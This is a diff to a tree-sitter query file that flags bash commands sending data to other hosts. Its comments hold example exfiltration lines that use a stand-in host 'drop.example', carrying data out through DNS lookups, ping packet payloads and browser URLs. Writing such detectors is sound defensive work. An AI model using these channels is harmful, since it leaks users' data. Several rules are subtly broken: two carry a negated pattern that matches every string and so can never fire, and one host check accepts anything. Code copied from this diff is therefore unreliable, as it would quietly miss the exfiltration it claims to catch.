@@ -147,3 +147,61 @@
 ((command name: (_) @fn) @send
   (#lexicon? @fn "bash-service-senders")
   (#set! id "service"))
+
+; redis-cli -h host, psql -h host, logger -n host: a server elsewhere.
+((command name: (_) @fn argument: (_) @_flag . argument: (_) @url) @send
+  (#name? @fn "redis-cli" "psql" "mysql" "mariadb" "mongosh" "mongo" "cqlsh" "clickhouse-client" "influx" "whois" "mosquitto_pub" "lp" "lpr")
+  (#value? @_flag "^(-h|-H|--host|--server)$")
+  (#value? @url "[.]|^[\\s\\S]*$")
+  (#not-value? @url "^(localhost|127\\.|0\\.0\\.0\\.0|::1|/|\\.|$)")
+  (#set! id "server")
+  (#set! kind "message"))
+((command name: (_) @fn argument: (_) @url) @send
+  (#name? @fn "redis-cli" "psql" "mongosh" "mongo" "mysqlsh" "clickhouse-client" "usql")
+  (#value? @url "^(redis|rediss|postgres|postgresql|mongodb|mongodb\\+srv|mysql|clickhouse)://")
+  (#not-value? @url "://([^@/]*@)?(localhost|127\\.)")
+  (#set! id "server-url")
+  (#set! kind "message"))
+((command name: (_) @fn argument: (_) @_flag . argument: (_) @url) @send
+  (#name? @fn "logger")
+  (#value? @_flag "^(-n|--server)$")
+  (#set! id "remote-log")
+  (#set! kind "message"))
+
+; smbclient //host/share
+((command name: (_) @fn argument: (_) @url) @send
+  (#name? @fn "smbclient")
+  (#value? @url "^(//|\\\\\\\\)[^/]")
+  (#set! id "share")
+  (#set! kind "copy-remote"))
+
+; getent hosts "$data.drop.example", ping, whois: a name that is put together is asked of a server that
+; may be the sender's own.
+((command name: (_) @fn argument: (_) @url) @send
+  (#name? @fn "getent.hosts" "getent.ahosts" "ping" "ping6" "fping" "traceroute" "tracepath" "mtr" "resolvectl.query" "systemd-resolve" "whois" "finger" "arping" "avahi-resolve")
+  (#value? @url "[.@][a-zA-Z][\\w-]*\\.[a-zA-Z]{2,}\\.?$")
+  (#not-value? @url "(?s)^.*$")
+  (#set! id "name-asked")
+  (#set! kind "dns"))
+
+; ping -p "$(… | xxd -p)" host: what fills the packets.
+((command name: (_) @fn argument: (_) @_flag . argument: (_) @payload) @send
+  (#name? @fn "ping" "ping6")
+  (#value? @_flag "^-p$")
+  (#not-value? @payload "^[0-9a-fA-F]*$")
+  (#set! id "packet-filling")
+  (#set! kind "socket"))
+
+; xdg-open "https://drop.example/?d=$data": what the address carries goes out with the browser.
+((command name: (_) @fn argument: (_) @url) @send
+  (#name? @fn "xdg-open" "open" "sensible-browser" "x-www-browser" "gnome-open" "kde-open" "wslview" "start" "firefox" "google-chrome" "google-chrome-stable" "chromium" "chromium-browser" "chrome" "brave-browser" "microsoft-edge" "explorer")
+  (#value? @url "^https?://")
+  (#not-value? @url "(?s)^.*$")
+  (#set! id "browser-query")
+  (#set! kind "http"))
+((command name: (_) @fn argument: (_) @_flag argument: (_) @url) @send
+  (#name? @fn "firefox" "google-chrome" "google-chrome-stable" "chromium" "chromium-browser" "chrome" "brave-browser" "microsoft-edge")
+  (#value? @_flag "^--?headless")
+  (#value? @url "^https?://")
+  (#set! id "browser-headless")
+  (#set! kind "http"))
